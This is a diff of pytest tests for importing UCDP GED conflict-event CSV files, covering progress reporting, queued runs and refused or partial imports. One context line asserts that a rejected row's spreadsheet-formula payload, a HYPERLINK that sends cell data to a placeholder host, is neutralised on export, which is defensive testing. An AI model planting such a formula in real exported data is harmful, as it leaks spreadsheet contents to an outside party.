@@ -11,6 +11,7 @@ import pytest
 
 from accord.core.importing import ImportRefused
 from accord.core.models import ChangeRecord, Run
+from accord.core.runs import start_run
 from accord.crisis.ingest import ged_blocks
 from accord.crisis.ingest.ged import import_ged
 from accord.crisis.models import Event
@@ -117,3 +118,81 @@ def test_rejected_rows_cannot_run_as_formulas_in_a_spreadsheet(actor, tmp_path):
         [row] = list(csv.DictReader(handle))
     assert row["side_a"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
     assert row["latitude"] == "-12.5"
+
+
+def test_an_import_reports_its_progress_on_its_run_block_by_block(actor, monkeypatch):
+    monkeypatch.setattr(ged_blocks, "ROWS_PER_BLOCK", 200)
+    seen = []
+
+    def look(done: int, total: int) -> None:
+        run = Run.objects.latest("id")
+        seen.append((run.status, run.done, run.total))
+
+    run = import_ged(SHIPPED_GED, actor=actor, progress=look)
+    size = SHIPPED_GED.stat().st_size
+    assert seen and {status for status, _, _ in seen} == {"running"}
+    assert [done for _, done, _ in seen] == sorted(done for _, done, _ in seen) and seen[-1][1:] == (
+        size,
+        size,
+    )
+    run.refresh_from_db()
+    assert (run.kind, run.subject, run.status, run.added, run.done, run.total) == (
+        "ucdp-ged",
+        SHIPPED_GED.name,
+        "complete",
+        1000,
+        1000,
+        1000,
+    )
+    assert run.finished_at is not None and len(run.sha256) == 64
+    assert set(Event.objects.values_list("import_run_id", flat=True)) == {run.pk}
+
+
+def test_a_run_made_beforehand_by_a_queued_job_is_filled_in(actor):
+    queued = start_run("import", actor, status=Run.Status.QUEUED)
+    run = import_ged(SHIPPED_GED, actor=actor, run=queued)
+    queued.refresh_from_db()
+    assert (run.pk, queued.status, queued.added, queued.subject) == (
+        queued.pk,
+        "complete",
+        1000,
+        SHIPPED_GED.name,
+    )
+    assert Run.objects.count() == 1 and Event.objects.filter(import_run=queued).count() == 1000
+
+
+def test_a_refused_file_ends_a_run_made_beforehand_as_refused_with_its_lines(actor, tmp_path):
+    queued = start_run("import", actor, status=Run.Status.QUEUED)
+    with pytest.raises(ImportRefused):
+        import_ged(broken_file(tmp_path), actor=actor, run=queued)
+    queued.refresh_from_db()
+    assert (queued.status, queued.rejected, queued.added) == ("refused", 3, 0)
+    assert [message["text"] for message in queued.messages] == [
+        "ged.csv:3: date_start: '2013-02-30' is not a date (YYYY-MM-DD)",
+        "ged.csv:5: country_id: unknown country (Gleditsch-Ward number 999)",
+        "ged.csv:7: latitude: 95.5 is out of range (±90)",
+    ]
+    assert [message["line"] for message in queued.messages] == [3, 5, 7]
+    assert not Event.objects.exists()
+
+
+def test_an_unreadable_file_ends_a_run_made_beforehand_as_refused(actor, tmp_path):
+    queued = start_run("import", actor, status=Run.Status.QUEUED)
+    with pytest.raises(ImportRefused):
+        import_ged(tmp_path, actor=actor, run=queued)
+    queued.refresh_from_db()
+    assert queued.status == "refused"
+    assert [message["text"] for message in queued.messages] == [
+        f"{tmp_path.name}: is a folder, not a CSV file"
+    ]
+
+
+def test_good_rows_only_keep_the_rejected_lines_on_the_run(actor, tmp_path):
+    run = import_ged(broken_file(tmp_path), actor=actor, keep_good=True, rejects=tmp_path / "rejects.csv")
+    run.refresh_from_db()
+    assert (run.status, run.added, run.rejected) == ("partial", 997, 3)
+    assert [(message["line"], message["field"]) for message in run.messages] == [
+        (3, "date_start"),
+        (5, "country_id"),
+        (7, "latitude"),
+    ]
